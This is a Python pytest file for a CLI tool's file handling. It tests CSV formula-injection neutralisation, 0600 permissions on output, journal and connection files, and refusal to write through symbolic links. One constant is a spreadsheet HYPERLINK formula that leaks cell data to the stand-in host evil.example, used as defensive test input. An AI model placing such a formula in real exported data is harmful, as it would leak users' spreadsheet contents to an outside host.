"""`run`'s files, end to end: CSV formula cells, 0600 files, refused links, checked journals."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.cli.conftest import run_cli, write_jsonl
from tests.cli.pipes import read_then_close
from tests.support.simadmin import SimAdmin

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Executives")'


def _find_groups(conn: Path, table: Path, *extra: str) -> list[str]:
    return ["run", "find_groups", "--connection", str(conn), "--input", str(table), *extra]


def test_a_server_text_starting_with_equals_is_neutralised_in_csv(
    sim: SimAdmin, conn_file: Path, tmp_path: Path
) -> None:
    # The simulator's own data carries the text: a group whose description is a formula.
    group = next(g for g in sim.sim.world.groups if g.description == "Executives")
    group.description = EVIL
    table = write_jsonl(tmp_path / "in.jsonl", [{"lhub_id": 1}])
    query = ["--set", "query=Executives", "--format", "csv"]
    done = run_cli(_find_groups(conn_file, table, *query))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert [row["description"] for row in rows] == ["'" + EVIL]
    raw = run_cli(_find_groups(conn_file, table, *query, "--csv-raw"))
    assert [row["description"] for row in csv.DictReader(io.StringIO(raw.stdout))] == [EVIL]


@pytest.fixture
def umask_022() -> Iterator[None]:
    previous = os.umask(0o022)  # the CLI processes inherit it
    try:
        yield
    finally:
        os.umask(previous)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.usefixtures("umask_022")
def test_output_and_journal_are_created_0600(
    sim: SimAdmin, conn_file: Path, tmp_path: Path
) -> None:
    table = write_jsonl(tmp_path / "in.jsonl", [{"lhub_id": n} for n in range(1, 4)])
    out = tmp_path / "out.jsonl"
    query = _find_groups(conn_file, table, "--set", "query=a")
    # A run cut short by its reader keeps its journal: its mode can be looked at.
    journal = tmp_path / "kept.resume"
    cut = read_then_close([*query, "--journal", str(journal)], 1)
    assert cut.returncode == 141, cut.stderr
    assert _mode(journal) == 0o600
    done = run_cli([*query, "--output", str(out)])
    assert done.returncode == 0, done.stderr
    assert _mode(out) == 0o600
    csv_out = tmp_path / "out.csv"
    assert run_cli([*query, "--output", str(csv_out), "--format", "csv"]).returncode == 0
    assert _mode(csv_out) == 0o600


@pytest.mark.usefixtures("umask_022")
def test_sim_write_connection_is_created_0600(tmp_path: Path) -> None:
    path = tmp_path / "sim.toml"
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "mimecast_soar.cli",
            "sim",
            "--port",
            "0",
            "--write-connection",
            str(path),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        assert "listening on" in process.stdout.readline()
        assert _mode(path) == 0o600
        assert "secret_key" in path.read_text()
    finally:
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=30)


def test_output_through_a_symbolic_link_is_refused_and_the_target_untouched(
    sim: SimAdmin, conn_file: Path, tmp_path: Path
) -> None:
    target = tmp_path / "precious.txt"
    target.write_text("keep me\n")
    link = tmp_path / "out.jsonl"
    link.symlink_to(target)
    table = write_jsonl(tmp_path / "in.jsonl", [{"lhub_id": 1}])
    for extra in ([], ["--resume"]):
        done = run_cli(
            [*_find_groups(conn_file, table, "--set", "query=a"), "--output", str(link), *extra]
        )
        assert done.returncode == 2
        assert done.stderr.strip().splitlines() == [
            f"error: the output {link} is a symbolic link: refusing to write through it "
            "(give the real path)"
        ]
    assert target.read_text() == "keep me\n"
    assert sim.requests("/api/directory/find-groups") == []
